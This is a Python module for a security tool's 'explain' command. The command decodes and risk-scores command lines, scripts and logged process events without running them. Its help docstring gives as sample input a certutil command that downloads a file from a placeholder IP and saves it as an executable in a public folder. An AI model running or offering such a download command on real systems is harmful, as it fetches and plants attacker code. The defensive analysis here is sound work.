"""``vedette explain``: any command line read aloud; nothing of it is executed."""

from __future__ import annotations

import shlex
import sys
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Annotated, Any

import typer

from vedette.cli.bulk_options import (
    EngineOption,
    FreshOption,
    IdColumnOption,
    NearDuplicatesOption,
    OutOption,
    ShardRowsOption,
    TextColumnOption,
    engine_from,
    refuse_bulk,
    run_texts,
)
from vedette.cli.frame import Frame, JsonOption, WorkersOption, frame_of
from vedette.cli.jsonl import answered, exit_code, text_or_path
from vedette.errors import UserError

if TYPE_CHECKING:
    from vedette.bulk import Engine
    from vedette.knowledge.tools import ToolTables
    from vedette.schema.command import Explanation, Language

app = typer.Typer(rich_markup_mode=None)

_SHELLS = {"auto": None, "bash": "sh", "batch": "cmd", "zsh": "sh", "js": "jscript", "node": "javascript"}
_ENDINGS = {
    ".ps1": "powershell", ".psm1": "powershell", ".psd1": "powershell", ".bat": "cmd", ".cmd": "cmd", ".sh": "sh",
    ".bash": "sh", ".zsh": "sh", ".ksh": "sh", ".js": "jscript", ".jse": "jscript", ".vbs": "vbscript",
    ".vba": "vbscript", ".bas": "vbscript", ".py": "python", ".pl": "perl", ".pm": "perl", ".rb": "ruby", ".php": "php",
    ".mjs": "javascript", ".sql": "sql", ".awk": "awk",
}  # fmt: skip
MOST_BYTES = 8_000_000


@dataclass(frozen=True, slots=True)
class Given:
    """One command to explain, and where it came from."""

    name: str
    text: str
    language: Language | None


@app.command()
def explain(
    context: typer.Context,
    command: Annotated[
        list[str] | None,
        typer.Argument(
            help="The command line, best in single quotes; - or none reads stdin. After -- it may have flags."
        ),
    ] = None,
    shell: Annotated[
        str,
        typer.Option(
            "--shell",
            "-s",
            help="auto, powershell, cmd, bash, program (as in a process event), python, jscript, vbscript …",
        ),
    ] = "auto",
    file: Annotated[
        list[str] | None,
        typer.Option("--file", "-f", help="A script to explain; may be repeated. With --out also s3:// URLs."),
    ] = None,
    lines: Annotated[
        bool, typer.Option("--lines", help="Each line of stdin or of the files is a command of its own.")
    ] = False,
    lake: Annotated[
        bool, typer.Option("--lake", help="Explain the process events of the lake, riskiest first.")
    ] = False,
    host: Annotated[str | None, typer.Option("--host", help="With --lake: only on this host.")] = None,
    account: Annotated[str | None, typer.Option("--account", help="With --lake: only by this account.")] = None,
    limit: Annotated[int, typer.Option("--limit", "-n", min=1, help="With --lake: commands listed.")] = 20,
    engine: EngineOption = None,
    workers: WorkersOption = None,
    out: OutOption = None,
    text_column: TextColumnOption = "text",
    id_column: IdColumnOption = None,
    shard_rows: ShardRowsOption = 500,
    near_duplicates: NearDuplicatesOption = None,
    fresh: FreshOption = False,
    tables: Annotated[
        list[Path] | None,
        typer.Option("--tables", help="Your own tables of tools (YAML), laid over ours; may be repeated."),
    ] = None,
    full: Annotated[bool, typer.Option("--full", help="Every token, layer and line.")] = False,
    fail_on: Annotated[
        float | None, typer.Option("--fail-on", min=0, max=1, help="Exit 1 if a risk is at least this.")
    ] = None,
    jsonl: Annotated[
        bool, typer.Option("--jsonl", help='Explain each line of stdin, {"id": …, "text": …} or {"id": …, "path": …}.')
    ] = False,
    json: JsonOption = False,
) -> None:
    r"""Say what a command line or script does: layers decoded, tokens explained, risk, ATT&CK, observables.

    Decodes PowerShell, cmd and batch, sh and bash, and what they carry (JScript, VBScript, Python, Perl, SQL …) layer
    by layer. Nothing is executed, opened or asked of the network: what only running would tell is said to be unknown.

    Example: vedette explain 'certutil -urlcache -f http://192.0.2.7/a.txt C:\Users\Public\a.exe'
    """
    frame = frame_of(context)
    language = _language(shell)
    known = _tables(frame, tables)
    if jsonl:
        raise typer.Exit(_jsonl(language, known, fail_on))
    if out is not None:
        from vedette.commands import volume
        from vedette.knowledge.tools import packed_tables

        if command or lake or lines:
            raise UserError("--out explains --file", next_step="vedette explain --file commands.parquet --out out/")
        run_texts(
            frame,
            volume.explain_rows,
            file,
            out,
            verb="vedette explain --file",
            engine=engine_from(frame, engine, workers, what="vedette explain"),
            version=volume.version_of(known, language),
            initializer=volume.prepare,
            initargs=(None if known is packed_tables() else known, language),
            text_column=text_column,
            id_column=id_column,
            shard_rows=shard_rows,
            near_duplicates=near_duplicates,
            fresh=fresh,
            as_json=json,
        )
        return
    if not lake:
        refuse_bulk(engine, workers, near_duplicates, fresh)
    if (host or account) and not lake:
        raise UserError("--host and --account narrow the lake", next_step="add --lake")
    if lake:
        if command or file:
            raise UserError("--lake explains the commands of the logs", next_step="leave out the command, or --lake")
        _lake(
            frame,
            known,
            host,
            account,
            limit,
            engine_from(frame, engine, workers, what="vedette explain"),
            fail_on,
            json,
        )
        return
    worst = _explain_all(
        frame, _given(command, [Path(f) for f in file or ()], lines, language), known, full=full, as_json=json
    )
    if fail_on is not None and worst >= fail_on:
        raise typer.Exit(1)


def _language(shell: str) -> Language | None:
    from vedette.schema.command import Language

    name = shell.strip().lower()
    name = _SHELLS.get(name, name) or ""
    if not name:
        return None
    try:
        return Language(name)
    except ValueError:
        raise UserError(
            f"--shell cannot be {shell!r}", next_step=f"choose one of: auto, bash, batch, {', '.join(sorted(Language))}"
        ) from None


def _tables(frame: Frame, paths: list[Path] | None) -> ToolTables:
    from vedette.knowledge.tools import tables_with

    own = frame.home_path() / "tools"
    for path in paths or ():
        if not path.exists():
            raise UserError(f"{path} is not there", next_step="give a YAML file of tools, or a folder of them")
    return tables_with([*([own] if own.is_dir() else []), *(paths or ())])


def _given(
    command: list[str] | None, files: list[Path] | None, lines: bool, language: Language | None
) -> Iterator[Given]:
    """Yield what is to be explained, in order."""
    if command and command != ["-"]:
        if files:
            raise UserError("give a command or --file, not both")
        if len(command) > 1 and any(" " in part for part in command[:1]):
            raise UserError("several commands were given", next_step="explain one, or pipe them in: --lines")
        text = command[0] if len(command) == 1 else " ".join(_quoted(part) for part in command)
        yield Given("command", text, language)
        return
    if files:
        for path in files:
            yield from _split(str(path), _read(path), lines, language or _by_ending(path))
        return
    if sys.stdin.isatty():
        raise UserError("no command", next_step="vedette explain 'COMMAND', or pipe it in")
    data = sys.stdin.buffer.read(MOST_BYTES + 1)
    if len(data) > MOST_BYTES:
        raise UserError(f"stdin holds more than {MOST_BYTES:,} bytes", next_step="explain it in parts, or use --jsonl")
    yield from _split("stdin", _text(data, "stdin"), lines, language)


def _quoted(part: str) -> str:
    return (
        part if part and not any(c in part for c in " \t\"'") else f'"{part}"' if '"' not in part else shlex.quote(part)
    )


def _split(name: str, text: str, lines: bool, language: Language | None) -> Iterator[Given]:
    if not lines:
        yield Given(name, text.strip("\r\n"), language)
        return
    for number, line in enumerate(text.splitlines(), 1):
        if line.strip():
            yield Given(f"{name}:{number}", line, language)


def _read(path: Path) -> str:
    if path.is_dir():
        raise UserError(f"{path} is a folder", next_step="name its files: --file a.ps1 --file b.bat")
    if not path.exists():
        raise UserError(f"{path} is not there", next_step="check the path")
    if path.is_file() and path.stat().st_size > MOST_BYTES:
        raise UserError(f"{path} is larger than {MOST_BYTES:,} bytes, no script that a person wrote")
    with path.open("rb") as opened:
        data = opened.read(MOST_BYTES + 1)
    return _text(data, str(path))


def _text(data: bytes, name: str) -> str:
    from vedette.commands.decoding import decode_text

    text = decode_text(data)
    if text is None:
        raise UserError(f"{name} is binary, no command or script", next_step="give text: a command line or a script")
    if not text.strip():
        raise UserError(f"{name} is empty", next_step="vedette explain 'COMMAND'")
    return text


def _by_ending(path: Path) -> Language | None:
    from vedette.schema.command import Language

    ending = _ENDINGS.get(path.suffix.lower())
    return Language(ending) if ending else None


def _explain_all(frame: Frame, given: Iterable[Given], tables: ToolTables, *, full: bool, as_json: bool) -> float:
    """Explain each and print it; return the highest risk."""
    from vedette.cli.explained import show
    from vedette.commands import explain as explain_command

    items = list(given)
    many = len(items) > 1
    worst = 0.0
    told: list[dict[str, Any]] = []
    for item in items:
        explanation = explain_command(item.text, item.language, tables=tables)
        worst = max(worst, explanation.risk)
        if as_json:
            told.append(_dict(explanation) | ({"source": item.name} if many else {}))
        elif many and not full:
            mark = "risky" if explanation.risky else ""
            frame.say(f"{item.name}  {explanation.risk:.2f} {mark}", "bold red" if explanation.risky else "bold")
            frame.say(f"  {explanation.sentence}")
        else:
            show(frame, explanation, full=full, title=item.name if many else None)
            if many:
                frame.say("")
    if as_json:
        frame.print_json({"explanations": told} if many else told[0])
    elif many and not full:
        frame.next_step("vedette explain --full …", "to see every layer and token", here=False)
    return worst


def _dict(explanation: Explanation) -> dict[str, Any]:
    from vedette.commands.telling.as_json import as_json

    return as_json(explanation)


def _jsonl(language: Language | None, tables: ToolTables, fail_on: float | None) -> int:
    from vedette.commands import explain as explain_command

    over = False

    def answer_of(asked: Any) -> dict[str, Any]:
        nonlocal over
        given = text_or_path(asked)
        own = _language(str(given["shell"])) if given.get("shell") else language
        if "text" in given:
            text = given["text"]
        else:
            path = Path(given["path"])
            text, own = _read(path), own or _by_ending(path)
        told = _dict(explain_command(text, own, tables=tables))
        over = over or (fail_on is not None and told["risk"] >= fail_on)
        return told

    code = exit_code(*answered(answer_of))
    return 1 if over else code


def _lake(
    frame: Frame,
    tables: ToolTables,
    host: str | None,
    account: str | None,
    limit: int,
    engine: Engine,
    fail_on: float | None,
    as_json: bool,
) -> None:
    from vedette.cli.bars import bar
    from vedette.commands.events import explain_events

    with frame.lake() as lake, bar(frame, "commands") as shown:
        found = explain_events(lake, tables, host=host, account=account, engine=engine, progress=shown.events)
    if not found.n_events and (host or account):
        said = " and ".join(f"{what} {name}" for what, name in (("host", host), ("account", account)) if name)
        raise UserError(
            f"no event with a command line names {said}",
            next_step="vedette query lists the names: device_name, actor_name",
        )
    if as_json:
        frame.print_json(
            {
                "n_events": found.n_events,
                "n_commands": found.n_commands,
                "n_risky": found.n_risky,
                "commands": [
                    {
                        "count": item.count,
                        "first_at": item.first_at,
                        "last_at": item.last_at,
                        "hosts": list(item.hosts),
                        "accounts": list(item.accounts),
                        "events": list(item.event_ids),
                        "explanation": _dict(item.explanation),
                    }
                    for item in found.commands[:limit]
                ],
            }
        )
    else:
        frame.say(
            f"{found.n_commands:,} different command lines in {found.n_events:,} events; "
            f"{found.n_risky:,} called risky",
            "bold",
        )
        for item in found.commands[:limit]:
            explanation = item.explanation
            where = ", ".join(item.hosts[:2]) + (" …" if len(item.hosts) > 2 else "")
            frame.say(
                f"\n{explanation.risk:.2f}  {item.count}x  {item.first_at:%Y-%m-%d %H:%M:%S}  {where}  "
                f"{', '.join(item.accounts[:2])}",
                "bold red" if explanation.risky else "bold",
            )
            text = explanation.command
            frame.say(f"  {text if len(text) <= 300 else text[:299] + '…'}", "cyan")
            frame.say(f"  {explanation.sentence}")
            if explanation.techniques:
                frame.say(
                    "  " + ", ".join(f"{t.id} {t.name or ''} {t.confidence:.2f}" for t in explanation.techniques[:3])
                )
        if found.n_commands > limit:
            frame.note(f"{found.n_commands - limit:,} more: --limit")
        if found.commands:
            frame.next_step("vedette explain 'COMMAND'", "to see one token by token", here=False)
    if fail_on is not None and found.commands and found.commands[0].explanation.risk >= fail_on:
        raise typer.Exit(1)
